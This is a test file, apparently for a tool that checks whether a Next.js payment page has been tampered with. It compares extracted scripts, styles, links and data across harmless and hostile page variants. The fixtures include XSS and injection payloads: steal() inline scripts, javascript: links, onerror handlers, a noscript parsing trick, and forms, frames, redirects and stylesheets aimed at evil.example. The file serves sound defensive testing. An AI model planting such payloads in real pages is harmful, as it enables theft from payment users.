import { describe, expect, it } from 'vitest';
import { makeHtml } from '../testing/make-html.ts';
import { readPage } from './read-page.ts';

type Options = Partial<Parameters<typeof makeHtml>[0]> & { readonly policy?: string };

function read({ nonce = 'r2n6d8k0q4w1', policy, ...options }: Options = {}) {
  const headers = new Headers({
    'content-type': 'text/html; charset=utf-8',
    'content-security-policy': policy ?? `script-src 'nonce-${nonce}' 'strict-dynamic'`,
  });
  const body = Buffer.from(makeHtml({ nonce, ...options }));
  return readPage('/pay/(ref)', { status: 200, headers, body }, new Map([['bill-1234', 'ref']]));
}

const usual = read().facts;

describe('a page of the same release', () => {
  it.each([
    ['with another nonce', { nonce: 'a9b8c7d6e5f4' }],
    ['of another bill', { bill: 'of Jane Doe, <$100.00>\n' }],
    ['in more pieces', { pieces: 7 }],
    ['with other words', { body: '<p class="new" title="alert(1)">javascript: is a language</p>' }],
    ['with other pictures', { body: '<img src="data:image/png;base64,AAAA">' }],
  ] satisfies [string, Options][])('reads the same %s', (_name, options) => {
    expect(read(options).facts).toEqual(usual);
  });

  it('names what it runs', () => {
    expect(usual.scripts).toEqual([
      '<script async nonce="(nonce)" src="/_next/static/chunks/main.js">',
      '<script nonce="(nonce)"> data of Next',
    ]);
    expect(usual.data).toEqual([
      'hint HL ["/_next/static/chunks/look.css","style",{"nonce":"(nonce)"}]',
      'script /_next/static/chunks/page.js',
      'scriptUrl https://cdn.plaid.com/link.js',
    ]);
    expect(new Set(read().files)).toEqual(
      new Set(['look.css', 'main.js', 'page.js'].map((name) => `/_next/static/chunks/${name}`)),
    );
  });
});

const NONCE = 'nonce="r2n6d8k0q4w1"';

describe('a page that was tampered with', () => {
  it.each([
    ['scripts', 'an inline script', { body: `<script ${NONCE}>steal()</script>` }],
    ['scripts', 'an inline script without a nonce', { head: '<script>steal()</script>' }],
    ['scripts', 'a foreign script', { head: '<script src="https://evil.example/x.js"></script>' }],
    [
      'scripts',
      'a module',
      { body: '<script type="module">import "https://evil.example"</script>' },
    ],
    ['scripts', 'code after data', { body: '<script>self.__next_f.push([0]);steal([1])</script>' }],
    [
      'scripts',
      'more code after data',
      { body: `<script ${NONCE}>self.__next_f.push([0]);steal()</script>` },
    ],
    ['scripts', 'code in data', { body: '<script>self.__next_f.push([1,steal()])</script>' }],
    ['scripts', 'a look-alike of data', { body: '<script>self.__next_g.push([1,"a"])</script>' }],
    ['scripts', 'a script in a drawing', { body: '<svg><script>steal()</script></svg>' }],
    [
      'scripts',
      'a script in a shadow root',
      { body: '<p><template shadowrootmode="open"><script>steal()</script></template></p>' },
    ],
    [
      'scripts',
      'a script that only browsers with scripts see',
      { body: '<noscript><p title="</noscript><script>steal()</script>"></noscript>' },
    ],
    ['scripts', 'an event handler', { body: '<img src="/icon.svg" onerror="steal()">' }],
    ['scripts', 'an address that runs', { body: '<a href=" JavaScript:steal()">Pay</a>' }],
    [
      'scripts',
      'a nonce of its own',
      { body: '<script nonce="x">self.__next_f.push([0])</script>' },
    ],
    [
      'styles',
      'a style',
      { head: `<style ${NONCE}>input{background:url(//evil.example)}</style>` },
    ],
    [
      'links',
      'a style sheet',
      { head: '<link rel="stylesheet" href="https://evil.example/x.css">' },
    ],
    ['links', 'a preload', { head: '<link rel="modulepreload" href="https://evil.example/x.js">' }],
    ['others', 'a frame', { body: '<iframe src="https://evil.example"></iframe>' }],
    ['others', 'a form', { body: '<form action="https://evil.example"></form>' }],
    [
      'others',
      'a button that leads a form elsewhere',
      { body: '<button formaction="/evil">Pay</button>' },
    ],
    ['others', 'a base address', { head: '<base href="https://evil.example/">' }],
    [
      'others',
      'a redirect',
      { head: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
    ],
    ['others', 'another referrer policy', { head: '<meta name="referrer" content="unsafe-url">' }],
    [
      'data',
      'a script in data',
      { rows: ['6:["$","script",null,{"src":"https://evil.example"}]'] },
    ],
    [
      'data',
      'HTML in data',
      { rows: ['6:["$","div",null,{"dangerouslySetInnerHTML":{"__html":"<b>"}}]'] },
    ],
    [
      'data',
      'another HTML in a row of its own',
      { rows: ['7:T3,<b>6:["$","div",null,{"dangerouslySetInnerHTML":{"__html":"$7"}}]'] },
    ],
    ['data', 'a component of other chunks', { rows: ['6:I[1,["/evil.js"],"Evil"]'] }],
    [
      'data',
      'another script for Plaid',
      { rows: ['6:["$","$L2",null,{"scriptUrl":"https://evil.example"}]'] },
    ],
    ['data', 'a custom element', { rows: ['6:["$","x-y",null,{"onclick":"steal()"}]'] }],
    [
      'data',
      'an address that runs in data',
      { rows: ['6:["$","a",null,{"href":"javascript:steal()"}]'] },
    ],
    ['data', 'what is not understood', { rows: ['6:{steal()}'] }],
    ['headers', 'a weaker policy', { policy: "script-src 'nonce-r2n6d8k0q4w1' 'unsafe-eval'" }],
    ['headers', 'no policy', { policy: '' }],
  ] satisfies [keyof typeof usual, string, Options][])(
    'shows in its %s: %s',
    (section, _name, options) => {
      const { facts } = read(options);
      expect(facts[section]).not.toEqual(usual[section]);
    },
  );

  it('reads long texts where they are used', () => {
    const row = '6:["$","div",null,{"dangerouslySetInnerHTML":{"__html":"$7"}}]';
    const [one, two] = ['<b>', '<i>'].map((html) => read({ rows: [`7:T3,${html}${row}`] }).facts);
    expect(one?.data).not.toEqual(two?.data);
  });

  it('tells one tampering from another', () => {
    const bodies = ['steal(1)', 'steal(2)'].map((code) => `<script>${code}</script>`);
    const [one, two] = bodies.map((body) => read({ body }).facts.scripts);
    expect(one).not.toEqual(two);
  });
});
